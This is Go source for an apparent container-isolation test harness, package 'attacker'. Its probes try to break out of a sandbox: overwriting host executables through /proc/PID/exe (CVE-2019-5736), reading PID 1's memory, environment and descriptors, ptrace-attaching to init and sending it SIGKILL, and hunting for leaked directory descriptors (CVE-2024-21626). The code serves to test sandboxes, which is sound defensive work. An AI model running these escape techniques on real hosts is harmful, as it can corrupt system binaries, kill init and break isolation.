package attacker

import (
	"fmt"
	"os"
	"path/filepath"
	"strconv"

	"golang.org/x/sys/unix"
)

// mark is what the attacker writes over what it can reach.
const mark = "overwritten by the attacker"

func pids() []int {
	var out []int
	entries, _ := os.ReadDir("/proc")
	for _, e := range entries {
		if n, err := strconv.Atoi(e.Name()); err == nil {
			out = append(out, n)
		}
	}
	return out
}

// overwriteExecutables writes to every executable that /proc leads to and that
// is not the attacker's own (CVE-2019-5736). With an argument it waits that
// long for a process to appear, as the exploit does.
func overwriteExecutables([]string) {
	var own, st unix.Stat_t
	_ = unix.Stat("/proc/self/exe", &own)
	for _, pid := range append(pids(), 1) {
		path := fmt.Sprintf("/proc/%d/exe", pid)
		if pid == os.Getpid() || unix.Stat(path, &st) == nil && st.Ino == own.Ino && st.Dev == own.Dev {
			continue
		}
		// A handle first: opening for writing is refused while the file is executed.
		fd, err := unix.Open(path, unix.O_PATH|unix.O_CLOEXEC, 0)
		if err != nil {
			continue
		}
		won("exe", "handle of %s", path)
		for _, flags := range []int{unix.O_WRONLY, unix.O_RDWR, unix.O_WRONLY | unix.O_TRUNC} {
			w, err := unix.Open(fmt.Sprintf("/proc/self/fd/%d", fd), flags, 0)
			if err != nil {
				continue
			}
			won("exe", "open for writing %s", path)
			if _, err := unix.Write(w, []byte(mark)); err == nil {
				won("exe", "written to %s", path)
			}
			_ = unix.Close(w)
		}
		_ = unix.Close(fd)
	}
}

// reachInit tries everything that another process of one's own user gives.
func reachInit([]string) {
	for _, link := range []string{"root", "cwd", "exe"} {
		t, err := os.Readlink("/proc/1/" + link)
		wonIf(err, "proc1", "%s is %s", link, t)
	}
	entries, err := os.ReadDir("/proc/1/root/")
	wonIf(err, "proc1", "list of root: %d", len(entries))
	for _, dir := range []string{"fd", "map_files", "fdinfo"} {
		entries, err := os.ReadDir("/proc/1/" + dir)
		if err != nil {
			continue
		}
		for _, e := range entries {
			_, err := os.Readlink("/proc/1/fd/" + e.Name())
			wonIf(err, "proc1", "descriptor %s", e.Name())
			f, err := os.OpenFile(filepath.Join("/proc/1", dir, e.Name()), os.O_RDWR, 0)
			if err == nil && dir == "fd" {
				won("proc1", "opened descriptor %s", e.Name())
				_ = f.Close()
			}
		}
	}
	for _, file := range []string{"environ", "maps", "auxv", "stack", "syscall", "personality", "io", "pagemap"} {
		if f, err := os.Open("/proc/1/" + file); err == nil {
			if n, _ := f.Read(make([]byte, 64)); n > 0 {
				won("proc1", "read %s", file)
			}
			_ = f.Close()
		}
	}
	for _, flags := range []int{os.O_RDONLY, os.O_RDWR} {
		f, err := os.OpenFile("/proc/1/mem", flags, 0)
		if err == nil {
			won("proc1", "opened mem")
			_ = f.Close()
		}
	}
	for _, ns := range []string{"mnt", "net", "pid", "user", "ipc", "uts", "cgroup"} {
		f, err := os.Open("/proc/1/ns/" + ns)
		if err == nil {
			won("proc1", "opened the namespace %s", ns)
			_ = f.Close()
		}
	}
	for _, req := range []uintptr{unix.PTRACE_ATTACH, unix.PTRACE_SEIZE} {
		// In a child of its own: its end lets init go again.
		if inChild(call{nr: unix.SYS_PTRACE, args: [6]uintptr{req, 1}}).succeeded() {
			won("proc1", "ptrace")
		}
	}
	_ = unix.Kill(1, unix.SIGCONT) // what ptrace stopped goes on
	if pidfd, err := unix.PidfdOpen(1, 0); err == nil {
		for fd := range 8 {
			_, err := unix.PidfdGetfd(pidfd, fd, 0)
			wonIf(err, "proc1", "pidfd_getfd %d", fd)
		}
	}
	wonIf(unix.Kill(1, unix.SIGKILL), "proc1-signal", "SIGKILL sent")
}

// walkDescriptors looks for a way out through what was inherited: descriptors
// that are directories, and a working directory outside the root
// (CVE-2024-21626).
func walkDescriptors([]string) {
	cwd, err := os.Readlink("/proc/self/cwd")
	if err == nil && (cwd == "" || cwd[0] != '/') {
		won("descriptor", "working directory %q", cwd)
	}
	if _, err := os.Getwd(); err != nil {
		won("descriptor", "working directory without a name: %v", err)
	}
	// Up from where we are, a process whose directory lies outside of its root
	// comes to the host's.
	up := "."
	for range 40 {
		up += "/.."
	}
	var root, top unix.Stat_t
	if unix.Stat("/", &root) == nil && unix.Stat(up, &top) == nil && (root.Ino != top.Ino || root.Dev != top.Dev) {
		won("descriptor", "the top above the working directory is not the root")
	}
	for fd := range 1024 {
		var st unix.Stat_t
		if unix.Fstat(fd, &st) != nil {
			continue
		}
		switch t, _ := os.Readlink(fmt.Sprintf("/proc/self/fd/%d", fd)); {
		case st.Mode&unix.S_IFMT == unix.S_IFDIR:
			won("descriptor", "directory %d %s", fd, t)
		case fd < 3 && st.Mode&unix.S_IFMT == unix.S_IFREG:
			won("descriptor", "file %d %s", fd, t)
		case fd < 3 && st.Mode&unix.S_IFMT == unix.S_IFSOCK:
			won("descriptor", "socket %d %s", fd, t)
		case fd >= 3 && !ownDescriptor(t):
			won("descriptor", "inherited %d %s", fd, t)
		}
	}
}

// ownDescriptor tells what the Go runtime of this program opens.
func ownDescriptor(target string) bool {
	return target == "anon_inode:[eventpoll]" || target == "anon_inode:[eventfd]"
}
